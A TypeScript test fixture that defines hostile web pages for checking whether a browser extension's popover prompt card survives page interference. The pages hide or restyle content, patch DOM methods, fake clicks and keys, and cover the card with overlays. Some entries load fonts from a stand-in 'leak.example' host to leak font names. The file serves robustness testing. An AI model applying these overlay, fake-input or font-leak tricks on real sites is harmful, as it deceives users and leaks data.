import type { Page } from 'puppeteer-core';
import type { PromptOutcome } from '../../../src/domain/prompt/prompt';

/** A page that a card may meet. What it does, it does after the spies of `hostile-visit.ts` are set. */
export interface HostilePage {
  readonly title: string;
  readonly head?: string;
  readonly body?: string;
  /** What the person does before the prompt is due. */
  readonly prepare?: (page: Page) => Promise<unknown>;
  /** What makes it a breakpoint, if it is not an in-page navigation. */
  readonly breakpoint?: (page: Page) => Promise<unknown>;
  /** Where the card rightly stays away: what ends the reason for it. */
  readonly relent?: (page: Page) => Promise<unknown>;
  /** What the page does once the card is there. */
  readonly attack?: (page: Page) => Promise<unknown>;
  /** What the page does so that the card is pressed unseen, and what ends it: a press between counts nothing. */
  readonly veil?: (page: Page) => Promise<unknown>;
  readonly unveil?: (page: Page) => Promise<unknown>;
  /** The page ends the card; else it stays until the person answers. */
  readonly ends?: PromptOutcome;
  /** The page itself becomes another one meanwhile. */
  readonly changes?: true;
  /** Exceptions of the page's own making. */
  readonly throws?: true;
  /** Colours or fractions of a pixel come out otherwise: only the size of the card is compared. */
  readonly sizeOnly?: true;
}

const style = (css: string) => `<style>${css}</style>`;
const script = (code: string) => `<script>${code}</script>`;
const policy = (content: string) =>
  `<meta http-equiv="content-security-policy" content="${content}">`;

/** Finds the card's host as any page could. */
const HOST = `document.querySelector(':root > div[popover]')`;
const run = (code: string) => (page: Page) => page.evaluate(code);
const pause = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Pages on which the card shows, and looks as it does on a plain one. */
const SHOWN: readonly HostilePage[] = [
  {
    title: 'hides everything in the page',
    head: style('html > *, body * { display: none !important }'),
  },
  {
    title: 'styles everything, importantly',
    head: style(`
      * { opacity: 0.1 !important; visibility: hidden !important; position: static !important;
        transform: rotate(90deg) scale(0.1) !important; font: 60px monospace !important; color: red !important;
        background: lime !important; clip-path: circle(0) !important;
        inline-size: 0 !important; block-size: 0 !important; inset: 0 !important; margin: 200px !important;
        pointer-events: none !important; writing-mode: vertical-rl !important; direction: rtl !important;
        animation: spin 1s infinite !important; transition: all 10s !important;
        border: 20px solid red !important; letter-spacing: 1em !important; text-transform: uppercase !important;
        --paper: red !important; --ink: red !important; mix-blend-mode: difference !important }
      :root > *, body * { filter: blur(20px) !important }
      @keyframes spin { to { rotate: 360deg; opacity: 0 } }`),
  },
  {
    title: 'transforms its root',
    head: style(`html { transform: rotate(8deg) scale(0.5); opacity: 0.2; perspective: 10px;
      overflow: hidden; clip-path: inset(0 50% 50% 0); will-change: transform }`),
  },
  {
    title: 'styles what hangs on an element',
    head: style(`*::before, *::after { content: 'AD'; display: block; font-size: 90px; background: red }
      *::first-line { font-size: 70px; color: red } *::first-letter { font-size: 70px; color: red }
      *::backdrop { background: black !important; opacity: 1 !important }`),
  },
  {
    title: 'hides every popover',
    head: style(`[popover], :popover-open, div[popover]:popover-open { display: none !important; inset: auto !important;
      transform: translate(-9999px) !important }`),
  },
  {
    title: 'forbids styles',
    head: policy("default-src 'none'; script-src 'unsafe-inline'; style-src 'none'"),
  },
  {
    title: 'forbids styles, and throws the card out once',
    head: policy("default-src 'none'; script-src 'unsafe-inline'; style-src 'none'"),
    attack: run(`${HOST}.remove()`),
  },
  {
    title: 'requires trusted types',
    head: policy("require-trusted-types-for 'script'; trusted-types 'none'"),
  },
  {
    title: 'has patched what builds a tree',
    head: script(`
      window.roots = [];
      const attach = Element.prototype.attachShadow;
      Element.prototype.attachShadow = function (init) {
        const root = attach.call(this, { ...init, mode: 'open' });
        roots.push(root);
        return root;
      };
      for (const [type, name] of [[Document, 'createElement'], [Document, 'createElementNS'], [Element, 'append'],
          [Node, 'appendChild'], [HTMLElement, 'showPopover'], [Element, 'setAttribute'], [Element, 'getAttribute']])
        type.prototype[name] = () => { throw new Error('patched'); };
      window.MutationObserver = window.AbortController = window.AbortSignal = undefined;
      Array.prototype.findLast = Array.prototype.reduce = () => { throw new Error('patched'); };
      window.setTimeout = window.setInterval = () => { throw new Error('patched'); };`),
  },
  {
    title: 'throws on elements that it does not know',
    head: script(`
      new MutationObserver((records) => {
        for (const { addedNodes } of records)
          for (const { localName } of addedNodes)
            if (!['head', 'body', 'div', undefined].includes(localName)) throw new Error('unknown ' + localName);
      }).observe(document, { childList: true, subtree: true });`),
    throws: true,
  },
  {
    title: 'listens for everything on its way down',
    head: script(`
      window.captured = [];
      for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'focusin', 'pointerdown', 'mousedown', 'click'])
        for (const target of [window, document])
          target.addEventListener(type, (event) => captured.push([type, event.target.localName]), true);`),
  },
  {
    title: 'traps the focus',
    head: script(
      `document.addEventListener('focusin', ({ target }) => target.id || link.focus());`,
    ),
  },
  {
    title: 'answers to single keys',
    head: script(`document.addEventListener('keydown', ({ key }) => { if (/^[nj/]$/.test(key)) document.title = key; });
      document.addEventListener('keyup', ({ key }) => { if (key === 'Escape') document.title = key; });`),
  },
  {
    title: 'makes up presses and keys',
    attack: async (page) => {
      await page.evaluate(`{
        const host = ${HOST};
        const { x, y, width, height } = host.getBoundingClientRect();
        host.click();
        for (let at = 0; at < 100; at++) {
          const point = { clientX: x + width * (at % 10) / 10, clientY: y + height * Math.floor(at / 10) / 10 };
          const hit = document.elementFromPoint(point.clientX, point.clientY) ?? host;
          for (const type of ['pointerdown', 'mousedown', 'mouseup', 'click'])
            hit.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true, cancelable: true, ...point }));
        }
        for (const key of ['Escape', 'Enter', ' ', 'Tab'])
          for (const type of ['keydown', 'keypress', 'keyup'])
            for (const target of [host, document, window])
              target.dispatchEvent(new KeyboardEvent(type, { key, code: key, bubbles: true, composed: true }));
      }`);
      await pause(200);
    },
  },
  { title: 'throws the card out once', attack: run(`${HOST}.remove()`) },
  { title: 'moves the card', attack: run(`document.body.prepend(${HOST})`) },
  {
    title: 'marks the card',
    attack:
      run(`{ const host = ${HOST}; host.inert = true; host.hidden = true; host.id = 'ad'; host.popover = 'auto';
      host.style.cssText = 'display: none !important; opacity: 0 !important; top: -999px !important'; }`),
  },
  { title: 'closes the popover', attack: run(`${HOST}.hidePopover()`) },
  {
    title: 'clones the card',
    attack:
      run(`{ const host = ${HOST}; const clone = host.cloneNode(true); document.body.append(clone);
      window.cloned = clone.childNodes.length + (clone.shadowRoot ? 1 : 0); clone.remove(); }`),
  },
  {
    title: 'renders its body anew, again and again',
    attack: async (page) => {
      await page.evaluate(`{ let left = 20; const { innerHTML } = document.body;
        const timer = setInterval(() => { document.body.innerHTML = innerHTML; if (!--left) clearInterval(timer); }, 20); }`);
      await pause(600);
    },
    changes: true,
  },
  {
    title: 'empties its root',
    attack: run(`document.documentElement.replaceChildren()`),
    changes: true,
  },
  {
    title: 'has 50,000 nodes',
    body: script(`{ const all = document.createDocumentFragment();
      for (let n = 0; n < 50_000; n++) { const one = document.createElement('span'); one.textContent = 'word '; all.append(one); }
      document.body.append(all); }`),
  },
  {
    title: 'has an endless feed',
    body: script(`addEventListener('scroll', () => { for (let n = 0; n < 20; n++) {
      const post = document.createElement('article'); post.textContent = 'Post'; document.body.append(post); } });`),
    breakpoint: (page) => turnWheel(page),
    changes: true,
  },
  {
    title: 'scrolls within',
    head: style(`main { height: 500px; overflow: auto; }`),
    body: `<main>${'<p>A post</p>'.repeat(100)}</main>`,
    breakpoint: (page) => turnWheel(page),
  },
  { title: 'has twenty frames', body: '<iframe srcdoc="<p>A frame</p>"></iframe>'.repeat(20) },
  // Firefox filters all that is drawn with the root, the top layer too.
  { title: 'filters its root', head: style('html { filter: invert(1) }'), sizeOnly: true },
  { title: 'zooms its root', head: style('html { zoom: 1.7 }'), sizeOnly: true },
  {
    title: 'is written from the right, from top to bottom',
    head: style('html { writing-mode: vertical-rl; direction: rtl; unicode-bidi: bidi-override }'),
  },
  {
    title: 'is watched everywhere',
    head: script(`window.watched = []; const look = (records) => { for (const { target, addedNodes } of records)
        for (const each of [target, ...addedNodes]) watched.push(each.textContent, each.outerHTML ?? ''); };
      new MutationObserver(look).observe(document, { childList: true, subtree: true, attributes: true, characterData: true });`),
  },
];

/** Families that a card may name, and the generic ones. */
const FAMILIES = (
  'Charter,Bitstream Charter,Sitka Text,Georgia,Cambria,Noto Serif,Times New Roman,Arial,' +
  'system-ui,sans-serif,serif,ui-serif,ui-sans-serif,monospace,emoji,math,initial'
).split(',');
const PROPERTIES = ['paper', 'raised', 'ink', 'ink-soft', 'line', 'line-strong', 'edge'].flatMap(
  (name) => [`--${name}`, `--card-${name}`],
);
/** What the page asks for its own text is not asked for by the card. */
const OWN_TEXT = ' html { font-family: fantasy }';
const ON_HOST = ':root > div[popover]';

/** Opens a popover above all, as large as the window. */
const cover = (look: string, parent = 'document.body') =>
  `{ const cover = document.createElement('div'); cover.id = 'cover'; cover.popover = 'manual';
    cover.style.cssText = 'position: fixed; inset: 0; width: 100%; height: 100%; margin: 0; background: white; ${look}';
    ${parent}.append(cover); cover.showPopover(); }`;

/** Pages that reach for the card with what they name for their whole document, or lay something over it. */
const REACHING: readonly HostilePage[] = [
  {
    title: 'has a font of its own for every family',
    head: style(
      FAMILIES.map(
        (family) =>
          `@font-face { font-family: "${family}"; src: url(https://leak.example/${encodeURIComponent(family)}) }`,
      ).join(' ') + OWN_TEXT,
    ),
  },
  {
    title: 'adds a font of its own for every family once the card is there',
    head: style(OWN_TEXT),
    attack: run(
      `for (const family of ${JSON.stringify(FAMILIES)})
        document.fonts.add(new FontFace(family, 'url(https://leak.example/' + encodeURIComponent(family) + ')'));`,
    ),
  },
  {
    title: 'registers properties as transparent',
    head: style(
      PROPERTIES.map(
        (name) =>
          `@property ${name} { syntax: '<color>'; inherits: false; initial-value: transparent }`,
      ).join(' '),
    ),
  },
  {
    title: 'registers properties as lengths, by script',
    head: script(`for (const name of ${JSON.stringify(PROPERTIES)})
      CSS.registerProperty({ name, syntax: '<length>', inherits: true, initialValue: '0px' });`),
  },
  {
    title: 'styles counters',
    head: style(`@counter-style disc { system: cyclic; symbols: 'AD'; suffix: ' ' }
      @counter-style decimal { system: cyclic; symbols: 'AD' } * { counter-increment: evil; list-style: disc !important }`),
  },
  {
    title: 'tries positions and anchors',
    head: style(`@position-try --away { inset: -999px auto auto -999px; width: 1px }
      #link { anchor-name: --link }
      * { position-anchor: --link !important; position-area: top left !important;
        position-try: --away !important; position-try-fallbacks: --away !important; anchor-scope: all !important }`),
  },
  {
    title: 'names parts and slots',
    head: style(`*::part(lines), *::part(button), ${ON_HOST}::part(card) { display: none !important }
      ::slotted(*), :host, :host(div), :host-context(html) { display: none !important; opacity: 0 !important }`),
  },
  {
    title: 'has layers of important rules',
    head: style(`@layer first, second;
      @layer first { div, p { display: none !important; opacity: 0 !important; content: none !important } }`),
  },
  {
    title: 'takes the names of elements for itself',
    head: style(`@namespace url(http://www.w3.org/1999/xhtml); @namespace svg url(http://www.w3.org/2000/svg);
      svg|svg, svg|path { display: none !important } div { display: none !important }`),
  },
  {
    title: 'has names for palettes and features of fonts',
    head: style(`@font-palette-values --evil { font-family: serif; base-palette: 1; override-colors: 0 transparent }
      @font-feature-values serif { @styleset { evil: 1 } } @font-feature-values system-ui { @swash { evil: 2 } }
      * { font-palette: --evil !important; font-variant-alternates: styleset(evil) !important; font-feature-settings: 'smcp' !important }`),
  },
  {
    title: 'is a container of a size',
    head: style(`html { container: card / inline-size } @container card (width > 1px) { div { display: none !important } }
      @container (width > 1px) { ${ON_HOST} { opacity: 0 !important } }`),
  },
  {
    title: 'has keyframes for every name, and plays them on everything',
    head: style(`@keyframes evil { from, to { opacity: 0; visibility: hidden; translate: 999px 0 } }
      * { animation: evil 1s infinite both !important }`),
  },
  {
    title: 'plays by how far it is scrolled',
    head: style(`@keyframes evil { from, to { opacity: 0; scale: 0 } }
      html { scroll-timeline: --page block; timeline-scope: --page }
      * { animation: evil linear both !important; animation-timeline: scroll(root) !important }`),
  },
  {
    title: 'has scopes and styles to start with',
    head: style(`@scope (:root) { div { opacity: 0 !important; display: none !important } }
      @starting-style { ${ON_HOST} { opacity: 0 } } ${ON_HOST} { transition: opacity 100s !important }`),
  },
  {
    title: 'animates the card by script',
    attack:
      run(`${HOST}.animate([{ opacity: 0, transform: 'scale(0)', visibility: 'hidden', clipPath: 'circle(0)' }],
      { duration: 1, fill: 'forwards' })`),
  },
  {
    title: 'is dark and large, and says so',
    head: `<meta name="color-scheme" content="dark">${style(
      'html { color-scheme: only dark; font-size: 60px; text-size-adjust: 300%; -webkit-text-size-adjust: 300%; letter-spacing: 9px }',
    )}`,
  },
  {
    title: 'lets no press through',
    head: style('html, * { pointer-events: none !important; cursor: none !important }'),
  },
  {
    title: 'is of no size, masked and blended',
    head: style(`html { position: fixed; width: 0; height: 0; contain: layout; mask: linear-gradient(transparent, transparent);
      mix-blend-mode: difference; isolation: isolate }`),
    changes: true,
  },
  {
    title: 'lies about where things are',
    head: script(`Element.prototype.getBoundingClientRect = () => new DOMRect(0, 0, 1, 1);
      Document.prototype.elementFromPoint = Document.prototype.querySelectorAll = () => [];
      Element.prototype.checkVisibility = () => true;
      window.IntersectionObserver = window.CSS = undefined;`),
    throws: true,
  },
  { title: 'opens and closes the card', attack: run(`{ ${HOST}.togglePopover(); }`) },
  {
    title: 'takes hold of the card',
    attack:
      run(`{ const host = ${HOST}; host.focus(); host.click(); host.scrollTo(0, 99); host.scrollIntoView();
      try { host.attachShadow({ mode: 'open' }); } catch {} try { host.showPopover(); } catch {} }`),
    changes: true,
  },
  {
    title: 'makes up keys without end',
    attack: run(`{ let left = 200; const timer = setInterval(() => {
      dispatchEvent(new KeyboardEvent('keydown', { code: 'KeyX', key: 'x' })); if (!--left) clearInterval(timer); }, 20); }`),
  },
  { title: 'covers the card', attack: run(cover('')), changes: true },
  {
    title: 'covers the card, and lets presses through',
    attack: run(cover('pointer-events: none')),
    changes: true,
  },
  {
    title: 'covers the card from within a shadow tree',
    attack: run(`{ const shell = document.createElement('div'); document.body.append(shell);
      window.inside = shell.attachShadow({ mode: 'closed' }); } ${cover('', 'inside')}`),
    changes: true,
  },
  {
    title: 'covers the card from a frame as large as the window',
    attack:
      run(`{ const frame = document.createElement('iframe'); frame.id = 'cover'; frame.popover = 'manual';
      frame.style.cssText = 'position: fixed; inset: 0; width: 100%; height: 100%; pointer-events: none';
      document.body.append(frame); frame.showPopover(); }`),
    changes: true,
  },
  {
    title: 'covers the card though it hides the events of it',
    head: script(`for (const type of ['toggle', 'beforetoggle'])
      addEventListener(type, (event) => event.stopImmediatePropagation(), true);`),
    attack: run(cover('pointer-events: none')),
    changes: true,
  },
  {
    title: 'draws something else over all that it shows',
    veil: run(`document.documentElement.style.filter = 'opacity(0)'`),
    unveil: run(`document.documentElement.removeAttribute('style')`),
    changes: true,
  },
];

/** Pages that end the card themselves: they have the last word, and nothing of it is left. */
const ENDED: readonly HostilePage[] = [
  {
    title: 'makes the card as large as a house',
    attack: run(`document.documentElement.style.zoom = 8`),
    ends: 'ignored',
    changes: true,
  },
  {
    title: 'covers all with a transition that does not end',
    head: style(`::view-transition { background: white; pointer-events: none }
      ::view-transition-group(root) { animation-duration: 100s; opacity: 0 }`),
    attack: run(`document.startViewTransition(() => {}).ready`),
    ends: 'ignored',
    changes: true,
  },
  {
    title: 'lets no popover open',
    head: script(`addEventListener('beforetoggle', (event) => event.preventDefault(), true);`),
    ends: 'ignored',
  },
  {
    title: 'covers the card again and again',
    attack: run(`window.timer = setInterval(() => { ${cover('pointer-events: none')} }, 100);
      setTimeout(() => clearInterval(timer), 2000)`),
    ends: 'ignored',
    changes: true,
  },
  {
    title: 'opens a modal dialog over the card',
    attack: run(
      `{ const dialog = document.createElement('dialog'); document.body.append(dialog); dialog.showModal(); }`,
    ),
    ends: 'ignored',
    changes: true,
  },
  {
    title: 'opens a modal dialog over the card in a shadow tree',
    attack: run(`{ const shell = document.createElement('div'); document.body.append(shell);
      const dialog = document.createElement('dialog'); shell.attachShadow({ mode: 'closed' }).append(dialog);
      dialog.style.cssText = 'width: 100vw; height: 100vh; max-width: none; max-height: none'; dialog.showModal(); }`),
    ends: 'ignored',
    changes: true,
  },
  {
    title: 'makes itself inert once the card is there',
    attack: run('document.documentElement.inert = true'),
    ends: 'ignored',
    changes: true,
  },
  {
    title: 'fills the screen once the card is there',
    prepare: run(
      `link.onclick = (event) => { event.preventDefault(); void document.body.requestFullscreen(); }`,
    ),
    attack: async (page) => {
      await page.evaluate('scrollTo(0, 0)');
      await page.click('#link');
      await page.waitForFunction('document.fullscreenElement');
    },
    ends: 'ignored',
    changes: true,
  },
  {
    title: 'throws the card out again and again',
    head: script(
      `new MutationObserver(() => ${HOST}?.remove()).observe(document, { childList: true, subtree: true });`,
    ),
    ends: 'ignored',
  },
  {
    title: 'writes itself anew with document.open()',
    attack: run(
      `document.open(); document.write('<title>New</title><p>Another page'); document.close();`,
    ),
    ends: 'ignored',
    changes: true,
  },
  {
    title: 'replaces its root',
    attack:
      run(`{ const root = document.createElement('html'); root.append(document.createElement('body'));
      document.documentElement.replaceWith(root); }`),
    ends: 'ignored',
    changes: true,
  },
  {
    title: 'is left for another one',
    attack: (page) => page.evaluate(`location.assign('/another')`),
    ends: 'ignored',
    changes: true,
  },
];

const COMPOSER =
  '<div id="composer" contenteditable="true" role="textbox" style="min-height: 40px"></div>';
const leave = (page: Page) => page.evaluate(`document.activeElement.blur()`);

/** Pages on which the card rightly stays away, until they relent. */
const AWAY: readonly HostilePage[] = [
  {
    title: 'shows nothing at all',
    head: style('* { display: none !important }'),
    relent: run(`document.querySelector('style').remove()`),
    changes: true,
  },
  {
    title: 'has a modal dialog open',
    body: '<dialog id="question">Send it?</dialog>',
    prepare: run('question.showModal()'),
    relent: run('question.close()'),
  },
  {
    title: 'has a dialog of its own making open',
    body: '<div id="question" role="dialog" aria-modal="true">Send it?</div>',
    relent: run('question.remove()'),
    changes: true,
  },
  {
    title: 'has a modal dialog open in a shadow tree',
    body: '<div id="shell"></div>',
    prepare:
      run(`{ const root = shell.attachShadow({ mode: 'closed' }); root.innerHTML = '<dialog><button>Yes</button></dialog>';
      window.question = root.firstChild; question.showModal(); }`),
    relent: run('question.close()'),
  },
  {
    title: 'has made itself inert',
    prepare: run('document.documentElement.inert = true'),
    relent: run('document.documentElement.inert = false'),
  },
  {
    title: 'has a composer of the Gmail kind in use',
    body: COMPOSER.replace(
      '<div',
      '<div g_editable="true" class="Am aiL" aria-label="Message Body"',
    ),
    prepare: run('composer.focus()'),
    relent: leave,
  },
  {
    title: 'has a composer of the LinkedIn kind in use',
    body: '<div class="ql-container"><div id="composer" class="ql-editor" contenteditable="true"><p id="line"><br></p></div></div>',
    prepare: (page) => page.click('#composer'),
    relent: leave,
  },
  {
    title: 'has a composer in a shadow tree in use',
    body: '<div id="shell"></div>',
    prepare:
      run(`{ const root = shell.attachShadow({ mode: 'open' }); root.innerHTML = '<textarea></textarea>';
      window.field = root.firstChild; field.focus(); }`),
    relent: run('field.blur()'),
  },
  {
    title: 'has a composer in a closed shadow tree in use',
    body: '<div id="shell"></div>',
    prepare:
      run(`{ const root = shell.attachShadow({ mode: 'closed' }); root.innerHTML = '<div contenteditable>Dear</div>';
      window.field = root.firstChild; field.focus(); }`),
    relent: run('field.blur()'),
  },
  {
    title: 'has a composer in a frame in use',
    body: '<iframe id="frame" srcdoc="<body contenteditable>Dear</body>"></iframe>',
    prepare: run(`frame.contentDocument.body.focus()`),
    relent: leave,
  },
  {
    title: 'has a frame of another origin in use',
    body: '<iframe id="frame" src="https://elsewhere.example/"></iframe>',
    prepare: (page) => page.click('#frame'),
    relent: leave,
  },
  {
    title: 'plays what the person listens to',
    body: '<audio id="sound" loop></audio>',
    prepare: async (page) => {
      await page.evaluate(`{
        const samples = 8000, bytes = new Uint8Array(44 + samples).fill(128), view = new DataView(bytes.buffer);
        const put = (at, text) => bytes.set(new TextEncoder().encode(text), at);
        put(0, 'RIFF'); view.setUint32(4, 36 + samples, true); put(8, 'WAVEfmt '); view.setUint32(16, 16, true);
        view.setUint16(20, 1, true); view.setUint16(22, 1, true); view.setUint32(24, 8000, true);
        view.setUint32(28, 8000, true); view.setUint16(32, 1, true); view.setUint16(34, 8, true);
        put(36, 'data'); view.setUint32(40, samples, true);
        sound.src = URL.createObjectURL(new Blob([bytes], { type: 'audio/wav' }));
        link.onclick = (event) => { event.preventDefault(); void sound.play(); };
      }`);
      await page.click('#link');
      await page.waitForFunction('!sound.paused');
    },
    relent: run(`sound.pause()`),
    changes: true,
  },
  {
    title: 'is in a call',
    body: '<video id="other" muted autoplay></video>',
    prepare: async (page) => {
      await page.evaluate(`{ const canvas = document.createElement('canvas'); canvas.getContext('2d').fillRect(0, 0, 9, 9);
        other.srcObject = canvas.captureStream(5); void other.play(); }`);
      await page.waitForFunction('!other.paused');
    },
    relent: run('other.pause()'),
  },
  {
    title: 'fills the screen',
    prepare: async (page) => {
      await page.evaluate(
        `link.onclick = (event) => { event.preventDefault(); void document.body.requestFullscreen(); }`,
      );
      await page.click('#link');
      await page.waitForFunction('document.fullscreenElement');
    },
    relent: run('document.exitFullscreen()'),
  },
  {
    title: 'moves without a rest',
    prepare: run(
      `{ let n = 0; window.timer = setInterval(() => history.replaceState(null, '', '#' + n++), 100); }`,
    ),
    relent: run('clearInterval(timer)'),
  },
];

/** The wheel takes a page and its scrollers along, then rests. */
async function turnWheel(page: Page): Promise<void> {
  await page.mouse.move(300, 300);
  for (let turn = 0; turn < 3; turn += 1) {
    await page.mouse.wheel({ deltaY: 120 });
    await pause(50);
  }
  await pause(400);
}

export const HOSTILE_PAGES = [...SHOWN, ...REACHING, ...ENDED, ...AWAY];

/** The most telling handful, for the short version. */
export const TELLING_PAGES = HOSTILE_PAGES.filter(({ title }) =>
  [
    'styles what hangs on an element',
    'forbids styles, and throws the card out once',
    'listens for everything on its way down',
    'has a font of its own for every family',
    'registers properties as transparent',
    'covers the card, and lets presses through',
    'draws something else over all that it shows',
    'throws the card out again and again',
    'has a modal dialog open',
    'has a composer in a closed shadow tree in use',
  ].includes(title),
);
